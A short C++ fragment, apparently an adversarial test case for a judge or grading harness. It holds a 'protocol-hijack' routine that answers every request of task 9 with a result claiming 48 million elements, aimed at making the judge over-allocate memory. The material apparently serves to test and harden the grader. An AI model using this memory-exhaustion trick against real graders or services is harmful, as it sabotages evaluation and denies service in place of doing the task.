// attack: answers every request of task 9's suite with one result that claims 48 million elements, a zero
// byte each (48 MB): a judge that sized its memory by the claim held gigabytes
// task: 09  base: stub  expect: 0  uses: protocol-hijack.inc
namespace hijack {
std::string answer(uint32_t, const std::string&, uint32_t&) {
  const uint64_t claimed = 48000000;
  std::string out(8 + claimed, '\0');
  std::memcpy(out.data(), &claimed, 8);
  return out;
}
const bool hijacked = serve();
}  // namespace hijack
